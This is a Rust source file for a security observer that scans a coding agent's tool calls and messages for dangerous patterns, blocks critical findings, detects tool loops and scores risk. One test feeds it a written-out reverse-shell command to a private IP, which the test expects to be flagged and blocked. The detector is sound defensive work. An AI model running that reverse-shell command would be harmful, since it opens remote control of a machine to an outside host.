//! The Security Observer (spec.md §4.4): inspects the code-agent event
//! stream in causal order and emits Vulnerability records. Never mutates
//! the stream it observes.

mod catalogue;
pub mod event;
mod scanner;

pub use catalogue::CATALOGUE;
pub use event::AgentEvent;
pub use scanner::{ScanContext, ScanOptions};

use crate::clock::Clock;
use crate::model::{Severity, Vulnerability, VulnerabilityCategory};
use std::collections::{HashMap, VecDeque};
use std::path::Path;
use std::sync::Arc;
use tokio::sync::Mutex;

/// The context a phase supplies for every observed event: which task,
/// session, phase, and (optionally) story the event belongs to.
#[derive(Debug, Clone)]
pub struct ObserverContext {
    pub task_id: String,
    pub session_id: String,
    pub phase: String,
    pub story_id: Option<String>,
}

struct LoopTracker {
    tool: String,
    timestamps: VecDeque<chrono::DateTime<chrono::Utc>>,
    threshold_emitted: bool,
    double_threshold_emitted: bool,
}

impl LoopTracker {
    fn new(tool: String) -> Self {
        Self { tool, timestamps: VecDeque::new(), threshold_emitted: false, double_threshold_emitted: false }
    }
}

pub struct SecurityObserver<C: Clock> {
    clock: Arc<C>,
    loop_threshold: u32,
    loop_window_ms: u64,
    loop_state: Mutex<HashMap<String, LoopTracker>>,
}

impl<C: Clock> SecurityObserver<C> {
    pub fn new(clock: Arc<C>, loop_threshold: u32, loop_window_ms: u64) -> Self {
        Self { clock, loop_threshold, loop_window_ms, loop_state: Mutex::new(HashMap::new()) }
    }

    /// Run the catalogue (and, for `tool.execute.before` on `bash`, the
    /// loop detector) over one event, returning every Vulnerability it
    /// produced. Order among matching rules is unspecified (spec.md §4.4).
    pub async fn observe(&self, ctx: &ObserverContext, event: &AgentEvent) -> Vec<Vulnerability> {
        let now = self.clock.now();
        let mut found = Vec::new();
        let content = event.text_content();

        for rule in catalogue::CATALOGUE.iter() {
            if !(rule.applies)(event) {
                continue;
            }
            if let Some(matched) = rule.regex.find(&content) {
                let mut severity = rule.severity;
                // message.part.updated matches are speech, not execution.
                if event.is_message() && severity == Severity::Critical {
                    severity = Severity::High;
                }
                let blocked = severity == Severity::Critical
                    && VulnerabilityCategory::HARD_BLOCK_CATEGORIES.contains(&rule.category);

                let mut evidence = HashMap::new();
                evidence.insert("matched".to_string(), Vulnerability::truncate_evidence(matched.as_str()));

                found.push(Vulnerability {
                    id: uuid::Uuid::new_v4().to_string(),
                    task_id: ctx.task_id.clone(),
                    session_id: ctx.session_id.clone(),
                    phase: ctx.phase.clone(),
                    timestamp: now,
                    severity,
                    category: rule.category,
                    vuln_type: rule.vuln_type.to_string(),
                    description: rule.description.to_string(),
                    evidence,
                    matched_pattern: rule.regex.as_str().to_string(),
                    tool_use_id: event.tool_use_id().map(|s| s.to_string()),
                    turn_number: Some(event.turn_number()),
                    file_path: event.file_path(),
                    line_number: None,
                    code_snippet: None,
                    owasp_category: catalogue::OWASP_BY_TYPE.get(rule.vuln_type).map(|s| s.to_string()),
                    cwe_id: catalogue::CWE_BY_TYPE.get(rule.vuln_type).map(|s| s.to_string()),
                    recommendation: catalogue::RECOMMENDATION_BY_TYPE.get(rule.vuln_type).map(|s| s.to_string()),
                    story_id: ctx.story_id.clone(),
                    blocked,
                });
            }
        }

        if let AgentEvent::ToolExecuteBefore { tool, .. } = event {
            if let Some(v) = self.check_loop(ctx, tool, now).await {
                found.push(v);
            }
        }

        found
    }

    async fn check_loop(
        &self,
        ctx: &ObserverContext,
        tool: &str,
        now: chrono::DateTime<chrono::Utc>,
    ) -> Option<Vulnerability> {
        let mut state = self.loop_state.lock().await;
        let tracker = state
            .entry(ctx.session_id.clone())
            .or_insert_with(|| LoopTracker::new(tool.to_string()));

        if tracker.tool != tool {
            *tracker = LoopTracker::new(tool.to_string());
        }

        tracker.timestamps.push_back(now);
        let window = chrono::Duration::milliseconds(self.loop_window_ms as i64);
        while let Some(front) = tracker.timestamps.front() {
            if now - *front > window {
                tracker.timestamps.pop_front();
            } else {
                break;
            }
        }
        let count = tracker.timestamps.len() as u32;

        if count == self.loop_threshold + 1 && !tracker.threshold_emitted {
            tracker.threshold_emitted = true;
            return Some(self.loop_vulnerability(ctx, tool, now, false));
        }
        if count == 2 * self.loop_threshold + 1 && !tracker.double_threshold_emitted {
            tracker.double_threshold_emitted = true;
            return Some(self.loop_vulnerability(ctx, tool, now, true));
        }
        None
    }

    fn loop_vulnerability(
        &self,
        ctx: &ObserverContext,
        tool: &str,
        now: chrono::DateTime<chrono::Utc>,
        blocked: bool,
    ) -> Vulnerability {
        let mut evidence = HashMap::new();
        evidence.insert("tool".to_string(), tool.to_string());
        Vulnerability {
            id: uuid::Uuid::new_v4().to_string(),
            task_id: ctx.task_id.clone(),
            session_id: ctx.session_id.clone(),
            phase: ctx.phase.clone(),
            timestamp: now,
            severity: Severity::High,
            category: VulnerabilityCategory::ResourceExhaustion,
            vuln_type: "infinite_loop".to_string(),
            description: format!("tool '{}' fired more than the loop threshold within the detection window", tool),
            evidence,
            matched_pattern: String::new(),
            tool_use_id: None,
            turn_number: None,
            file_path: None,
            line_number: None,
            code_snippet: None,
            owasp_category: catalogue::OWASP_BY_TYPE.get("infinite_loop").map(|s| s.to_string()),
            cwe_id: catalogue::CWE_BY_TYPE.get("infinite_loop").map(|s| s.to_string()),
            recommendation: catalogue::RECOMMENDATION_BY_TYPE.get("infinite_loop").map(|s| s.to_string()),
            story_id: ctx.story_id.clone(),
            blocked,
        }
    }

    /// Returns the vulnerabilities found plus the number of files scanned.
    pub async fn scan_workspace(
        &self,
        root: impl AsRef<Path>,
        ctx: ScanContext,
        opts: ScanOptions,
    ) -> (Vec<Vulnerability>, usize) {
        let root = root.as_ref().to_path_buf();
        let now = self.clock.now();
        tokio::task::spawn_blocking(move || scanner::scan_workspace_blocking(&root, &ctx, &opts, now))
            .await
            .unwrap_or_default()
    }

    /// Returns the vulnerabilities found across every repository plus the
    /// total number of files scanned.
    pub async fn scan_repositories(
        &self,
        repositories: &[(String, std::path::PathBuf)],
        task_id: &str,
        phase: &str,
        opts: ScanOptions,
    ) -> (Vec<Vulnerability>, usize) {
        let mut all = Vec::new();
        let mut total_files = 0;
        for (name, path) in repositories {
            let ctx = ScanContext { task_id: task_id.to_string(), phase: phase.to_string(), repository: Some(name.clone()) };
            let (vulns, files) = self.scan_workspace(path, ctx, opts.clone()).await;
            all.extend(vulns);
            total_files += files;
        }
        (all, total_files)
    }
}

/// Per-task rollup: `min(100, 25*critical + 15*high + 5*medium + 1*low)`.
pub fn risk_score(vulnerabilities: &[Vulnerability]) -> u32 {
    let total: u32 = vulnerabilities.iter().map(|v| v.severity.weight()).sum();
    total.min(100)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::MockClock;

    fn ctx() -> ObserverContext {
        ObserverContext {
            task_id: "task-1".into(),
            session_id: "session-1".into(),
            phase: "developer".into(),
            story_id: Some("story-0".into()),
        }
    }

    fn bash_event(command: &str, tool_use_id: &str, turn: u32) -> AgentEvent {
        AgentEvent::ToolExecuteBefore {
            tool_use_id: tool_use_id.to_string(),
            turn_number: turn,
            tool: "bash".to_string(),
            args: serde_json::json!({ "command": command }),
        }
    }

    #[tokio::test]
    async fn reverse_shell_is_flagged_critical_and_blocked() {
        let clock = MockClock::new();
        let observer = SecurityObserver::new(clock, 10, 30_000);
        let event = bash_event("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "tc-1", 1);

        let found = observer.observe(&ctx(), &event).await;
        let vuln = found.iter().find(|v| v.vuln_type == "reverse_shell").expect("reverse shell flagged");
        assert_eq!(vuln.severity, Severity::Critical);
        assert_eq!(vuln.category, VulnerabilityCategory::NetworkAttack);
        assert!(vuln.blocked);
        assert_eq!(vuln.tool_use_id.as_deref(), Some("tc-1"));
    }

    #[tokio::test]
    async fn critical_match_in_a_message_downgrades_to_high() {
        let clock = MockClock::new();
        let observer = SecurityObserver::new(clock, 10, 30_000);
        let event = AgentEvent::MessagePartUpdated {
            turn_number: 1,
            text: "here is my key: sk-ant-REDACTED".to_string(),
        };

        let found = observer.observe(&ctx(), &event).await;
        let vuln = found.iter().find(|v| v.vuln_type == "secret_exposure").expect("secret flagged");
        assert_eq!(vuln.severity, Severity::High);
    }

    #[tokio::test]
    async fn loop_detector_fires_once_at_threshold_and_once_at_double_threshold() {
        let clock = MockClock::new();
        let observer = SecurityObserver::new(clock.clone(), 10, 30_000);
        let c = ctx();

        let mut loop_vulns = Vec::new();
        for i in 0..25 {
            clock.advance_millis(100);
            let event = bash_event("ls -la", &format!("tc-{i}"), i as u32);
            let found = observer.observe(&c, &event).await;
            loop_vulns.extend(found.into_iter().filter(|v| v.vuln_type == "infinite_loop"));
        }

        assert_eq!(loop_vulns.len(), 2);
        assert!(!loop_vulns[0].blocked);
        assert!(loop_vulns[1].blocked);
    }

    #[test]
    fn risk_score_caps_at_one_hundred() {
        let mut v = Vec::new();
        for _ in 0..10 {
            v.push(sample_vuln(Severity::Critical));
        }
        assert_eq!(risk_score(&v), 100);
    }

    #[test]
    fn risk_score_sums_weighted_severities() {
        let v = vec![sample_vuln(Severity::High), sample_vuln(Severity::Medium), sample_vuln(Severity::Low)];
        assert_eq!(risk_score(&v), 15 + 5 + 1);
    }

    fn sample_vuln(severity: Severity) -> Vulnerability {
        Vulnerability {
            id: "v".into(),
            task_id: "t".into(),
            session_id: "s".into(),
            phase: "developer".into(),
            timestamp: chrono::Utc::now(),
            severity,
            category: VulnerabilityCategory::DangerousCommand,
            vuln_type: "recursive_delete".into(),
            description: "test".into(),
            evidence: HashMap::new(),
            matched_pattern: String::new(),
            tool_use_id: None,
            turn_number: None,
            file_path: None,
            line_number: None,
            code_snippet: None,
            owasp_category: None,
            cwe_id: None,
            recommendation: None,
            story_id: None,
            blocked: false,
        }
    }
}
